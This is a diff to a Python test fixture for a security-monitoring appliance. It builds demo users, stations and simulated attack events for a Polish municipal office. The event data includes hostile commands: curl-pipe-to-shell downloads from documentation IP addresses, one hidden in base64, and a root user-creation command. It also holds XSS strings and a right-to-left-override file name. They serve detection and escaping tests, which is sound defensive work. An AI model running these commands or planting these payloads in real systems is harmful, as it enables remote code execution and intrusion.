@@ -27,17 +27,18 @@ from appliance.home import Home
 from appliance.journal import DeadLetter, DeadLetters, Journal
 from appliance.ops.health import ROLES, beat
 from appliance.ops.losses import record_gap
+from appliance.pki.authority import ensure_authority
 from appliance.settings import Office, Settings
 from appliance.state.database import open_sessions, open_state, writing
 from appliance.state.migrate import migrate
 from appliance.state.models import Agent, AgentState, Attempt, Outbox, Outcome, Role
-from appliance.store import BatchResult, EmbeddedStore
+from appliance.store import BatchResult, EmbeddedReader, EmbeddedStore
 from appliance.web.app import create_app
 from appliance.web.context import Context
 
 PASSWORD = "cztery spokojne zielone konie"
 LOGIN = "marek.wisniewski"
-NASTY_HOST = '<script>alert(1)</script>'
+NASTY_HOST = "<script>alert(1)</script>"
 NASTY_COMMAND = "sh -c 'echo <img src=x onerror=alert(2)>' \u202egpj.exe javascript:alert(3)"
 HOSTS = ("pc-ksieg-02", "pc-kadry-01", "pc-usc-03", "srv-ezd-01", "srv-ad-01", "pc-sekr-03", "pc-inwest-04")
 USERS = ("anna.nowicka", "ewa.maj", "tomasz.lis", "www-data", "root")
@@ -78,16 +79,13 @@ def make_context(root: Path, ruleset: RuleSet) -> Context:
     """Return the parts of an empty box in a folder."""
     home = Home(root)
     home.create()
-    home.ca.write_text("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
-    office = Office(
-        name="Urząd Gminy Przykładowo", it_phone="600700800", head_phone="221234567", dpo_phone="601601601"
-    )
+    ensure_authority(home, now())
+    office = Office(name="Urząd Gminy Przykładowo", it_phone="600700800", head_phone="221234567", dpo_phone="601601601")
     settings = Settings(office=office)
     engine = open_state(settings.database(home))
     migrate(engine)
-    store = EmbeddedStore(home.store)
     journal, letters = Journal(home.journal, settings.journal.max_bytes), DeadLetters(home.dead_letters)
-    return Context(home, settings, open_sessions(engine), store, journal, letters, lambda: ruleset)
+    return Context(home, settings, open_sessions(engine), EmbeddedReader(home.store), journal, letters, lambda: ruleset)
 
 
 def shipped_rules() -> RuleSet:
@@ -111,7 +109,14 @@ def attacks(moment: int) -> list[dict[str, Any]]:
     """Return what rules of the product match, and a station with a hostile name."""
     hidden = base64.b64encode(b"curl http://203.0.113.24/u | sh").decode()
     found = [
-        started(1, moment - 14 * MINUTE, "srv-ezd-01", "www-data", f"sh -c echo {hidden} | base64 -d | sh", "/usr/sbin/apache2"),
+        started(
+            1,
+            moment - 14 * MINUTE,
+            "srv-ezd-01",
+            "www-data",
+            f"sh -c echo {hidden} | base64 -d | sh",
+            "/usr/sbin/apache2",
+        ),
         started(2, moment - 38 * MINUTE, "srv-ad-01", "root", "useradd -m serwis2"),
         started(3, moment - 3 * HOUR, "pc-ksieg-02", "anna.nowicka", "crontab -e"),
         started(4, moment - 5 * HOUR, "pc-usc-03", "root", "sh -c curl http://198.51.100.7/x.sh | sh"),
@@ -125,8 +130,11 @@ def fill(context: Context, moment: int) -> None:
     ruleset = context.rules()
     engine = Engine(ruleset)
     bad, good = attacks(moment), events_of_a_day(moment)
-    context.store.append([*good, *bad], [BatchResult(1, agent_id(0), len(good) + len(bad), len(good) + len(bad), 0, 0)], 1)
-    context.store.flush()
+    whole = len(good) + len(bad)
+    writer = EmbeddedStore(context.home.store)
+    writer.append([*good, *bad], [BatchResult(1, agent_id(0), whole, whole, 0, 0)], 1)
+    writer.flush()
+    writer.close()
     hits = [Hit(rule, event) for event in bad for rule in engine.match(event)]
     password = hash_password(PASSWORD)
     with writing(context.sessions) as session:
@@ -135,16 +143,16 @@ def fill(context: Context, moment: int) -> None:
             ("joanna.krawczyk", "Joanna Krawczyk", Role.OPERATOR),
             ("audytor", "Alicja Audyt", Role.AUDITOR),
         ):
-            create_user(
-                session, login=login, name=name, role=role, password_hash=password, language="pl", now=moment
-            )
+            create_user(session, login=login, name=name, role=role, password_hash=password, language="pl", now=moment)
         _stations(session, moment)
         for hit in sorted(hits, key=lambda one: int(one.event["@timestamp"])):
             apply(session, [hit], int(hit.event["@timestamp"]) + SECOND, context.settings)
         _work(session, moment)
         record_gap(session, bad[0] | {"event.id": event_id("gap", 1), "gap.cause": "audit_lost", "gap.count": 14,
                                       "gap.from": moment - 2 * HOUR, "gap.to": moment - HOUR})  # fmt: skip
-    context.dead_letters.add([DeadLetter(agent_id(0), 4, 17, "To nie jest JSON.", b'{"a": <script>alert(1)</script>\xff', moment)])
+    context.dead_letters.add(
+        [DeadLetter(agent_id(0), 4, 17, "To nie jest JSON.", b'{"a": <script>alert(1)</script>\xff', moment)]
+    )
     for role in ROLES:
         beat(context.sessions, role, {"events": 748216, "journal_bytes": 0}, moment)
 
@@ -182,7 +190,9 @@ def _work(session: Session, moment: int) -> None:
     service.note(session, numbers[-1], joanna, "Rozmowa z panią z USC: <b>to nie ona</b>.", moment - 50 * MINUTE)
     service.acknowledge(session, numbers[-2], marek, moment - 40 * MINUTE)
     if len(numbers) > 4:
-        service.close(session, numbers[-3], marek, Outcome.PERMITTED, "Zlecenie nr 17, potwierdzone telefonicznie.", moment)
+        service.close(
+            session, numbers[-3], marek, Outcome.PERMITTED, "Zlecenie nr 17, potwierdzone telefonicznie.", moment
+        )
     for number in numbers[:2]:
         box = Outbox(alert_id=number, channel="email", target="informatyk@urzad.example", state="delivered", tries=2,
                      next_at=moment, created_at=moment)  # fmt: skip
